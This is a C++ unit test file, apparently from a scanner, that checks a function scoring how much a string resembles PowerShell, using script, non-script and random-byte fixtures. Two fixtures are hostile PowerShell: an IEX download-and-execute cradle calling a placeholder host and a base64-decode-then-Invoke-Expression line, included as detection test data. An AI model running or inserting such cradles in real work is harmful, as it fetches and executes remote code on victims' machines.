#include "decoders/powershell_score.h"

#include <random>
#include <string>

#include "gtest/gtest.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

TEST(PowerShellScoreTest, ScriptsScoreHigh) {
  const char* scripts[] = {
      "Write-Host 'Hello World!' -ForegroundColor Green",
      "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
      "function Get-Stuff {\n  param([string]$Name)\n  foreach ($i in 1..3) "
      "{ if ($i -eq 2) { return $Name } }\n}",
      "$s = [System.Text.Encoding]::Unicode.GetString([Convert]::"
      "FromBase64String($b)); Invoke-Expression $s",
      "Get-ChildItem -Path C:\\ -Recurse | Where-Object { $_.Length -gt 1MB }"
      " | Sort-Object Length",
      "$ErrorActionPreference = 'SilentlyContinue'; Start-Process notepad",
  };
  for (const char* s : scripts) {
    EXPECT_GE(PowerShellScore(s), 0.7) << s;
  }
}

TEST(PowerShellScoreTest, NonScriptsScoreLow) {
  const char* texts[] = {
      "The quick brown fox jumps over the lazy dog. In the end, if you do "
      "the work for a while, you will return to the process and begin again.",
      "dGhpcyBpcyBub3QgYSBzY3JpcHQsIGp1c3QgYmFzZTY0IGRhdGE=",
      "a3f5c9e1b2d4f6a8c0e2b4d6f8a0c2e4 9f86d081884c7d659a2feaa0c55ad015",
      "SELECT name, value FROM settings WHERE id = 42 ORDER BY name;",
      "",
  };
  for (const char* s : texts) {
    EXPECT_LT(PowerShellScore(s), 0.3) << s;
  }
}

TEST(PowerShellScoreTest, Utf16leScoresLikeUtf8) {
  const std::string s =
      "Write-Host 'Hello'; $x = Get-Process | Select-Object -First 1";
  EXPECT_DOUBLE_EQ(PowerShellScore(s),
                   PowerShellScore(testing::Utf16le(s)));
}

TEST(PowerShellScoreTest, RandomBytesScoreZero) {
  std::mt19937 rng(7);
  for (int t = 0; t < 100; ++t) {
    std::string b(512, '\0');
    for (char& c : b) c = static_cast<char>(rng());
    EXPECT_EQ(PowerShellScore(b), 0.0);
  }
}

TEST(PowerShellScoreTest, RandomPrintableScoresLow) {
  std::mt19937 rng(11);
  for (int t = 0; t < 200; ++t) {
    std::string b(256, '\0');
    for (char& c : b) c = static_cast<char>(0x20 + rng() % 95);
    EXPECT_LT(PowerShellScore(b), 0.35);
  }
}

TEST(PowerShellScoreTest, Features) {
  PowerShellFeatures f;
  ComputePowerShellFeatures(
      "Write-Host $a -join ',' -ForegroundColor; [char]65; [Convert]::X; "
      "function f { param($p) }",
      &f);
  EXPECT_EQ(f.cmdlets, 1u);
  EXPECT_EQ(f.variables, 2u);
  EXPECT_EQ(f.operators, 1u);
  EXPECT_EQ(f.parameters, 1u);
  EXPECT_EQ(f.types, 2u);
  EXPECT_EQ(f.statics, 1u);
  EXPECT_EQ(f.keywords, 2u);  // function, param
}

TEST(PowerShellScoreTest, Vocabulary) {
  EXPECT_NE(LookupPowerShellWord("write") & kPsVerb, 0);
  EXPECT_NE(LookupPowerShellWord("bxor") & kPsOperator, 0);
  EXPECT_EQ(LookupPowerShellWord("zebra"), 0);
  EXPECT_EQ(LookupPowerShellWord(""), 0);
  for (const PowerShellWord& w : PowerShellVocabulary()) {
    EXPECT_EQ(LookupPowerShellWord(w.word), w.kinds) << w.word;
  }
}

}  // namespace
}  // namespace sbscan::decoders
